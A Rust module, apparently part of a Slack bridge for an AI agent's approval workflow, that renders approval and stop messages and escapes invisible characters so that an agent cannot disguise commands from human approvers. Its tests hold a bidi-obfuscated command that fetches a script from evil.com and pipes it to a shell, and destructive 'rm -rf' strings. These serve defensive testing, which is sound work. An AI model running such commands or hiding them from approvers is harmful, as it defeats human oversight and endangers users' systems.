//! The Block Kit messages the bridge posts: an approval request with its buttons, the same
//! message once decided, the Stop button.
//!
//! The Stop button lives on the turn's control message: posted in the Slack thread when a turn
//! starts ("Working on it…" with Stop; where streaming is unavailable it also shows the turn's
//! progress), and updated at the turn's end into its outcome line, without the button.

use centaur_protocol::slack::blocks::{
    ActionValue, Block, CentaurAction, MAX_SECTION_TEXT, Text, button,
};
use centaur_protocol::text::{is_invisible, reveal, revealed};
use centaur_protocol::{ApprovalKind, ApprovalResolution, ThreadKey};
use serde_json::Value;
use uuid::Uuid;

use super::format::{code_block, escape, tail, truncate};

/// A message: its `text` (notifications, and clients without blocks) and its blocks.
#[derive(Clone, Debug, PartialEq)]
pub struct Rendered {
    pub text: String,
    pub blocks: Vec<Block>,
}

fn section(text: impl Into<String>) -> Block {
    Block::Section {
        text: Text::mrkdwn(truncate(&text.into(), MAX_SECTION_TEXT)),
        block_id: None,
    }
}

fn context(text: impl Into<String>) -> Block {
    Block::Context {
        elements: vec![Text::mrkdwn(truncate(&text.into(), MAX_SECTION_TEXT))],
        block_id: None,
    }
}

fn stop_button(thread_key: &ThreadKey) -> Block {
    let value = ActionValue {
        thread_key: thread_key.clone(),
        approval_id: None,
    };
    Block::Actions {
        elements: vec![button(CentaurAction::Stop, "Stop", &value)],
        block_id: Some("centaur_control".into()),
    }
}

/// The control message while a turn runs: a line, `progress` (mrkdwn, where streaming is
/// unavailable) and the Stop button.
pub fn control_working(thread_key: &ThreadKey, progress: Option<&str>) -> Rendered {
    let mut blocks = vec![context("Working on it…")];
    if let Some(progress) = progress.filter(|p| !p.trim().is_empty()) {
        blocks.push(section(tail(progress, MAX_SECTION_TEXT - 10)));
    }
    blocks.push(stop_button(thread_key));
    Rendered {
        text: "Working on it…".into(),
        blocks,
    }
}

/// The control message once the turn ended: its outcome line and, where streaming is
/// unavailable, the progress it showed; no button.
pub fn control_done(outcome: &str, progress: Option<&str>) -> Rendered {
    let mut blocks = Vec::new();
    if let Some(progress) = progress.filter(|p| !p.trim().is_empty()) {
        blocks.push(section(tail(progress, MAX_SECTION_TEXT - 10)));
    }
    blocks.push(context(outcome));
    Rendered {
        text: outcome.to_owned(),
        blocks,
    }
}

/// Who decided, as people read it: `slack:U1 (Ann)` → `Ann`, `slack:U1` → `<@U1>`,
/// `api_key:ci` → `ci (API key)`, `admin` → `an admin`.
pub fn decider_label(decided_by: &str) -> String {
    if let Some(rest) = decided_by.strip_prefix("slack:") {
        return match rest.split_once(" (") {
            Some((_, name)) => escape(name.trim_end_matches(')')),
            None => format!("<@{}>", escape(rest)),
        };
    }
    if let Some(name) = decided_by.strip_prefix("api_key:") {
        return format!("{} (API key)", escape(name));
    }
    match decided_by {
        "admin" => "an admin".into(),
        "system" => "Centaur".into(),
        other => escape(other),
    }
}

/// How much of a tool call's arguments an approval message shows: characters of the escaped,
/// pretty JSON (a section holds 3,000 with the lines around it).
pub const TOOL_ARGUMENTS_CHARS: usize = 2500;

/// A tool call's arguments as its approval message shows them: pretty JSON, cut at
/// [`TOOL_ARGUMENTS_CHARS`] once escaped, and whether it was cut. From the event's
/// `details.arguments`, or from what the delivery state kept of it (`shown_arguments`,
/// `arguments_cut`: see `shown_details`).
pub fn tool_arguments(details: &Value) -> Option<(String, bool)> {
    if let Some(shown) = details.get("shown_arguments").and_then(Value::as_str) {
        let cut = details
            .get("arguments_cut")
            .and_then(Value::as_bool)
            .unwrap_or(false);
        return Some((shown.to_owned(), cut));
    }
    let arguments = details.get("arguments")?;
    let pretty = serde_json::to_string_pretty(arguments).unwrap_or_else(|_| arguments.to_string());
    Some(cut_escaped(
        &escape_invisible(&pretty),
        TOOL_ARGUMENTS_CHARS,
    ))
}

/// `json` (pretty JSON) with every Unicode format character (general category `Cf`: bidi
/// embeddings, overrides and isolates, zero-width spaces and joiners, the byte order mark, tag
/// characters, …) and the line and paragraph separators written as JSON escapes (`\u202e`),
/// as serde already writes control characters: an agent cannot make the arguments read
/// differently to the approver than what the tool gets. Such characters are only ever inside
/// strings, where the escape means the same character.
fn escape_invisible(json: &str) -> String {
    let mut shown = String::with_capacity(json.len());
    for c in json.chars() {
        if is_invisible(c) {
            let mut units = [0u16; 2];
            for unit in c.encode_utf16(&mut units) {
                shown.push_str(&format!("\\u{unit:04x}"));
            }
        } else {
            shown.push(c);
        }
    }
    shown
}

/// How much of a command (or a path) an approval message shows, in characters once escaped:
/// with the summary ([`SUMMARY_CHARS`]), the working directory and the notes, within a
/// section's 3,000.
const DETAIL_CHARS: usize = 2200;
/// How much of an approval's summary (and working directory) its message shows, once escaped.
const SUMMARY_CHARS: usize = 200;

/// A command's (or a path's) text as its approval message shows it: every invisible character
/// ([`is_invisible`], and control characters but newline and tab) written as `[U+202E]`, cut at
/// [`DETAIL_CHARS`] once escaped; whether it was cut, and whether anything was made visible.
/// From the event's `details[key]`, or from what the delivery state kept of it (`shown_{key}`,
/// `{key}_cut`, `{key}_hid`: see `shown_details`).
pub fn shown_detail(details: &Value, key: &str) -> Option<ShownDetail> {
    if let Some(text) = details.get(format!("shown_{key}")).and_then(Value::as_str) {
        let flag = |name: String| details.get(name).and_then(Value::as_bool).unwrap_or(false);
        return Some(ShownDetail {
            text: text.to_owned(),
            cut: flag(format!("{key}_cut")),
            hid: flag(format!("{key}_hid")),
        });
    }
    let raw = details.get(key).and_then(Value::as_str)?;
    let shown = reveal(raw);
    let hid = shown.is_some();
    let (text, cut) = cut_escaped(shown.as_deref().unwrap_or(raw), DETAIL_CHARS);
    Some(ShownDetail { text, cut, hid })
}

/// What [`shown_detail`] gives.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ShownDetail {
    pub text: String,
    pub cut: bool,
    /// It held invisible characters, now shown as `[U+…]`.
    pub hid: bool,
}

/// A short text (a summary, a folder) made visible and cut at [`SUMMARY_CHARS`] once escaped,
/// with `…` where it was cut.
fn shown_line(text: &str) -> String {
    let (mut shown, cut) = cut_escaped(&revealed(text), SUMMARY_CHARS - 1);
    if cut {
        shown.push('…');
    }
    shown
}

/// `text` cut so that, escaped for mrkdwn, it is at most `max` characters; whether it was cut.
fn cut_escaped(text: &str, max: usize) -> (String, bool) {
    let mut used = 0;
    for (at, c) in text.char_indices() {
        used += match c {
            '&' => "&amp;".len(),
            '<' | '>' => "&lt;".len(),
            // A fence inside is broken up with a zero-width space (`code_block`).
            '`' => 2,
            _ => 1,
        };
        if used > max {
            return (text[..at].to_owned(), true);
        }
    }
    (text.to_owned(), false)
}

/// What a tool call's approval is about: the tool and method, and the arguments in full or,
/// when they are too long for a message, their start and where to read them all.
fn tool_approval_body(thread_key: &ThreadKey, details: &Value) -> Option<String> {
    let tool = details.get("tool").and_then(Value::as_str)?;
    let method = details.get("method").and_then(Value::as_str)?;
    let (arguments, cut) = tool_arguments(details)?;
    let mut body = format!(
        "*Approval needed* to call a tool: `{}.{}`",
        escape(tool),
        escape(method)
    );
    body.push('\n');
    body.push_str(&code_block(&arguments));
    if cut {
        body.push_str(&format!(
            "\n_… cut: see the full arguments with `centaur attach {} --all-events`_",
            escape(thread_key.as_str())
        ));
    }
    Some(body)
}

/// What the approval is about: the summary, and the command (or path) as a code block; for a
/// tool, the tool, the method and its arguments.
fn approval_body(
    thread_key: &ThreadKey,
    kind: ApprovalKind,
    summary: &str,
    details: &Value,
) -> String {
    let what = match kind {
        ApprovalKind::Command => "run a command",
        ApprovalKind::FileChange => "change files",
        ApprovalKind::Tool => {
            if let Some(body) = tool_approval_body(thread_key, details) {
                return body;
            }
            "call a tool"
        }
    };
    let headline = shown_line(summary);
    let mut body = format!("*Approval needed* to {what}: {}", escape(&headline));
    let (key, noun) = match kind {
        ApprovalKind::Command => ("command", "command"),
        ApprovalKind::FileChange => ("path", "path"),
        ApprovalKind::Tool => ("tool", "tool"),
    };
    // Left out when the headline says it all: the same text, nothing hidden, nothing cut.
    if let Some(detail) =
        shown_detail(details, key).filter(|d| d.cut || d.hid || d.text != headline)
    {
        body.push('\n');
        body.push_str(&code_block(&detail.text));
        if detail.cut {
            body.push_str(&format!(
                "\n_… cut: see the full {noun} with `centaur attach {} --all-events`_",
                escape(thread_key.as_str())
            ));
        }
        if detail.hid {
            body.push_str(&format!(
                "\n:warning: _the {noun} holds invisible characters, shown as `[U+…]`_"
            ));
        }
    }
    if let Some(cwd) = details.get("cwd").and_then(Value::as_str) {
        body.push_str(&format!("\nin `{}`", escape(&shown_line(cwd))));
    }
    body
}

/// An approval request with Approve / Approve for session / Deny.
pub fn approval_request(
    thread_key: &ThreadKey,
    approval_id: Uuid,
    kind: ApprovalKind,
    summary: &str,
    details: &Value,
) -> Rendered {
    let value = ActionValue {
        thread_key: thread_key.clone(),
        approval_id: Some(approval_id),
    };
    Rendered {
        text: format!("Approval needed: {}", escape(&truncate(summary, 200))),
        blocks: vec![
            section(approval_body(thread_key, kind, summary, details)),
            Block::Actions {
                elements: vec![
                    button(CentaurAction::Approve, "Approve", &value),
                    button(
                        CentaurAction::ApproveForSession,
                        "Approve for session",
                        &value,
                    ),
                    button(CentaurAction::Deny, "Deny", &value),
                ],
                block_id: Some(format!("centaur_approval_{approval_id}")),
            },
        ],
    }
}

/// The outcome line of a decided approval: `✅ Approved by Ann`.
pub fn resolution_line(resolution: ApprovalResolution, decided_by: &str) -> String {
    let who = decider_label(decided_by);
    match resolution {
        ApprovalResolution::Approve => format!("✅ Approved by {who}"),
        ApprovalResolution::ApproveForSession => format!("✅ Approved for the session by {who}"),
        ApprovalResolution::Deny => format!("🚫 Denied by {who}"),
        ApprovalResolution::Cancelled => "⏹️ Cancelled (the turn ended)".into(),
    }
}

/// The approval message once decided: what it was about, who decided; no buttons.
pub fn approval_resolved(
    thread_key: &ThreadKey,
    kind: ApprovalKind,
    summary: &str,
    details: &Value,
    resolution: ApprovalResolution,
    decided_by: &str,
) -> Rendered {
    let line = resolution_line(resolution, decided_by);
    Rendered {
        text: format!("{line}: {}", escape(&truncate(summary, 200))),
        blocks: vec![
            section(approval_body(thread_key, kind, summary, details)),
            context(line),
        ],
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn key() -> ThreadKey {
        ThreadKey::parse("slack:C1:1.2").unwrap()
    }

    fn buttons(blocks: &[Block]) -> Vec<(String, ActionValue)> {
        blocks
            .iter()
            .filter_map(|b| match b {
                Block::Actions { elements, .. } => Some(elements.clone()),
                Block::Section { .. }
                | Block::Context { .. }
                | Block::Markdown { .. }
                | Block::Divider {} => None,
            })
            .flatten()
            .map(|b| {
                let value = ActionValue::decode(b.value.as_deref().unwrap()).unwrap();
                (b.action_id, value)
            })
            .collect()
    }

    #[test]
    fn an_approval_request_has_three_buttons_naming_it() {
        let id = Uuid::now_v7();
        let rendered = approval_request(
            &key(),
            id,
            ApprovalKind::Command,
            "rm -rf target",
            &json!({"command": "rm -rf target && echo <done>", "cwd": "/workspace"}),
        );
        let found = buttons(&rendered.blocks);
        let ids: Vec<&str> = found.iter().map(|(a, _)| a.as_str()).collect();
        assert_eq!(
            ids,
            ["centaur_approve", "centaur_approve_session", "centaur_deny"]
        );
        assert!(
            found
                .iter()
                .all(|(_, v)| v.approval_id == Some(id) && v.thread_key == key())
        );
        let json = serde_json::to_string(&rendered.blocks).unwrap();
        assert!(
            json.contains("rm -rf target &amp;&amp; echo &lt;done&gt;"),
            "{json}"
        );
        assert!(json.contains("/workspace"));
    }

    /// The message once decided shows what the request showed, from what the delivery state
    /// keeps of the details (`shown_details`), not the details themselves.
    fn assert_decided_message_shows_the_same(
        kind: ApprovalKind,
        summary: &str,
        details: &Value,
        body: &str,
    ) {
        let kept = crate::slack::delivery::state::shown_details(details);
        let resolved = approval_resolved(
            &key(),
            kind,
            summary,
            &kept,
            ApprovalResolution::Deny,
            "slack:U1 (Ann)",
        );
        assert_eq!(section_text(&resolved.blocks), body);
    }

    fn section_text(blocks: &[Block]) -> String {
        match &blocks[0] {
            Block::Section {
                text: Text::Mrkdwn { text },
                ..
            } => text.clone(),
            other => panic!("the first block is the section: {other:?}"),
        }
    }

    #[test]
    fn a_tool_approval_shows_the_tool_method_and_arguments() {
        let text = "Deploy <today> & tomorrow: ".to_owned() + &"all good. ".repeat(60);
        let details = json!({
            "tool": "slack",
            "method": "post_message",
            "arguments": {"channel": "C1", "text": text},
        });
        let summary = r#"slack.post_message(channel="C1", text="Deploy <today>…)"#;
        let rendered = approval_request(
            &key(),
            Uuid::now_v7(),
            ApprovalKind::Tool,
            summary,
            &details,
        );
        let body = section_text(&rendered.blocks);
        assert!(
            body.starts_with("*Approval needed* to call a tool: `slack.post_message`\n```\n{"),
            "{body}"
        );
        // Every word of the text, escaped, in pretty JSON; nothing cut.
        let escaped = escape(&text);
        assert!(
            body.contains(&format!("  \"text\": \"{escaped}\"")),
            "{body}"
        );
        assert!(body.contains("  \"channel\": \"C1\","), "{body}");
        assert!(body.ends_with("}\n```"), "{body}");
        assert!(!body.contains("cut"), "{body}");
        assert_decided_message_shows_the_same(ApprovalKind::Tool, summary, &details, &body);
    }

    #[test]
    fn invisible_characters_in_tool_arguments_are_shown_escaped() {
        // A right-to-left override makes "#general" after it read backwards; zero-width spaces,
        // a byte order mark, an isolate and a tag character hide in the channel's name.
        let details = json!({
            "tool": "slack",
            "method": "post_message",
            "arguments": {
                "channel": "C\u{200b}1\u{feff}\u{2066}x\u{2069}\u{e0041}",
                "text": "ship it \u{202e}lareneg#\u{202c} now\u{2028}é 🎉 \u{1b}",
            },
        });
        let (shown, cut) = tool_arguments(&details).unwrap();
        assert!(!cut);
        assert!(
            shown.contains(r#""channel": "C\u200b1\ufeff\u2066x\u2069\udb40\udc41""#),
            "{shown}"
        );
        assert!(
            shown.contains(r#""text": "ship it \u202elareneg#\u202c now\u2028é 🎉 \u001b""#),
            "{shown}"
        );
        assert!(!shown.chars().any(is_invisible), "{shown}");
        // Still the arguments, as JSON: the escapes mean the same characters.
        let back: Value = serde_json::from_str(&shown).unwrap();
        assert_eq!(back, details["arguments"]);
        // And so in the message, before and after the decision.
        let rendered = approval_request(
            &key(),
            Uuid::now_v7(),
            ApprovalKind::Tool,
            "slack.post_message(…)",
            &details,
        );
        let body = section_text(&rendered.blocks);
        assert!(body.contains(r"C\u200b1"), "{body}");
        assert!(!body.chars().any(is_invisible), "{body}");
        assert_decided_message_shows_the_same(
            ApprovalKind::Tool,
            "slack.post_message(…)",
            &details,
            &body,
        );
    }

    #[test]
    fn invisible_characters_in_a_command_are_shown_and_flagged() {
        // Read naively, the command ends in "echo safe": the override turns the rest around,
        // the zero-width space and the escape sequence hide in plain sight.
        let command = "echo safe \u{202e}hs.ti/moc.live//:sptth | lruc\u{202c} \u{200b}\u{1b}[8m";
        let details = json!({"command": command, "cwd": "/work\u{2066}space"});
        let rendered = approval_request(
            &key(),
            Uuid::now_v7(),
            ApprovalKind::Command,
            command,
            &details,
        );
        let body = section_text(&rendered.blocks);
        assert!(
            body.contains(
                "echo safe [U+202E]hs.ti/moc.live//:sptth | lruc[U+202C] [U+200B][U+001B][8m"
            ),
            "{body}"
        );
        assert!(
            body.contains("the command holds invisible characters, shown as `[U+…]`"),
            "{body}"
        );
        assert!(body.contains("in `/work[U+2066]space`"), "{body}");
        assert!(
            !body.chars().any(|c| is_invisible(c) || c == '\u{1b}'),
            "{body}"
        );
        assert_decided_message_shows_the_same(ApprovalKind::Command, command, &details, &body);
        // A plain command is shown once, without the warning.
        let plain = section_text(
            &approval_request(
                &key(),
                Uuid::now_v7(),
                ApprovalKind::Command,
                "ls -la",
                &json!({"command": "ls -la"}),
            )
            .blocks,
        );
        assert_eq!(plain, "*Approval needed* to run a command: ls -la");
        // One too long for the headline is shown whole below it.
        let long = "x".repeat(300);
        let body = section_text(
            &approval_request(
                &key(),
                Uuid::now_v7(),
                ApprovalKind::Command,
                &long,
                &json!({"command": long}),
            )
            .blocks,
        );
        assert!(body.contains(&format!("```\n{long}\n```")), "{body}");
    }

    #[test]
    fn a_long_command_is_cut_and_says_where_to_read_it() {
        let command = "echo start && ".to_owned() + &"true && ".repeat(500) + "rm -rf /data";
        let details = json!({"command": command});
        let summary = truncate(&command, 200);
        let rendered = approval_request(
            &key(),
            Uuid::now_v7(),
            ApprovalKind::Command,
            &summary,
            &details,
        );
        let body = section_text(&rendered.blocks);
        assert!(body.chars().count() <= MAX_SECTION_TEXT, "{}", body.len());
        assert!(!body.contains("rm -rf /data"), "{body}");
        assert!(
            body.ends_with(
                "\n```\n_… cut: see the full command with `centaur attach slack:C1:1.2 --all-events`_"
            ),
            "{body}"
        );
        assert!(!body.contains(":warning:"), "{body}");
        assert_decided_message_shows_the_same(ApprovalKind::Command, &summary, &details, &body);
    }

    #[test]
    fn long_tool_arguments_are_cut_within_the_section_and_say_where_to_read_them() {
        let text = "<&>".repeat(1000) + &"x".repeat(10_000) + "THE END";
        let details = json!({
            "tool": "slack",
            "method": "post_message",
            "arguments": {"channel": "C1", "text": text},
        });
        let rendered = approval_request(
            &key(),
            Uuid::now_v7(),
            ApprovalKind::Tool,
            "slack.post_message(…)",
            &details,
        );
        let body = section_text(&rendered.blocks);
        assert!(body.chars().count() <= MAX_SECTION_TEXT, "{}", body.len());
        assert!(body.contains("&lt;&amp;&gt;"));
        assert!(!body.contains("THE END"));
        assert!(body.ends_with(
            "\n```\n_… cut: see the full arguments with `centaur attach slack:C1:1.2 --all-events`_"
        ), "{body}");
        // The code block is closed: two fences.
        assert_eq!(body.matches("```").count(), 2, "{body}");
        assert_decided_message_shows_the_same(
            ApprovalKind::Tool,
            "slack.post_message(…)",
            &details,
            &body,
        );
        // Fences inside the arguments do not close the block early.
        let fenced = json!({"tool": "t", "method": "m", "arguments": {"code": "```".repeat(2000)}});
        let body = section_text(
            &approval_request(&key(), Uuid::now_v7(), ApprovalKind::Tool, "t.m", &fenced).blocks,
        );
        assert!(body.chars().count() <= MAX_SECTION_TEXT);
        assert_eq!(body.matches("```").count(), 2, "{body}");
        assert!(body.ends_with("--all-events`_"), "{body}");
    }

    #[test]
    fn a_decided_approval_has_no_buttons_and_says_who() {
        let rendered = approval_resolved(
            &key(),
            ApprovalKind::Command,
            "ls",
            &json!({"command": "ls"}),
            ApprovalResolution::Approve,
            "slack:U1 (Ann)",
        );
        assert!(buttons(&rendered.blocks).is_empty());
        assert!(rendered.text.starts_with("✅ Approved by Ann"));
        assert_eq!(
            resolution_line(ApprovalResolution::Deny, "api_key:ci"),
            "🚫 Denied by ci (API key)"
        );
        assert_eq!(
            resolution_line(ApprovalResolution::Cancelled, "system"),
            "⏹️ Cancelled (the turn ended)"
        );
    }

    #[test]
    fn deciders_read_as_people() {
        assert_eq!(decider_label("slack:U1 (Ann Lee)"), "Ann Lee");
        assert_eq!(decider_label("slack:U1"), "<@U1>");
        assert_eq!(decider_label("api_key:ci"), "ci (API key)");
        assert_eq!(decider_label("admin"), "an admin");
        assert_eq!(decider_label("<x>"), "&lt;x&gt;");
    }

    #[test]
    fn the_control_message_carries_stop_until_the_end() {
        let working = control_working(&key(), Some("• running `ls`"));
        let found = buttons(&working.blocks);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].0, "centaur_stop");
        assert_eq!(found[0].1.thread_key, key());
        assert_eq!(found[0].1.approval_id, None);
        let done = control_done("✅ Done", Some("• running `ls`"));
        assert!(buttons(&done.blocks).is_empty());
        assert_eq!(done.text, "✅ Done");
        // Long progress keeps its end, within a section's limit.
        let long = "x".repeat(10_000) + "END";
        let working = control_working(&key(), Some(&long));
        let json = serde_json::to_string(&working.blocks).unwrap();
        assert!(json.contains("END"));
        for block in &working.blocks {
            if let Block::Section {
                text: Text::Mrkdwn { text },
                ..
            } = block
            {
                assert!(text.chars().count() <= MAX_SECTION_TEXT);
            }
        }
    }
}
